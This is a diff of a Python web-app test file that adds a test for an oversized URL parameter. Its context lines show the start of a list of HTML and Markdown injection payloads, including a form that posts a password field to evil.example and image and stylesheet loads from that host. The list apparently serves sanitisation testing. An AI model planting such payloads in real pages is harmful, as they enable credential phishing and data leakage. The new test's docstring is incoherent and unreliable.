@@ -196,6 +196,12 @@ def test_garbage_in_the_url_falls_back(no_charts, field):
     assert visit.control("Sort by").value == "win_lost"
 
 
+def test_a_parameter_that_is_too_large_for_the_taxonomy(no_charts):
+    """Of a link, or of another data set before; the rules stand side by side on a page that does not choose this one."""
+    for page, query in (("example", {}), ("curves", {"marked": "information_threshold"})):
+        assert not Visit(page, bits="60", **query).at.error
+
+
 MARKUP = (
     '"><img src=http://evil.example/a.png><style>@import "http://evil.example/b.css"</style>',
     "![x](http://evil.example/c.png) <form action=http://evil.example><input name=password></form>",
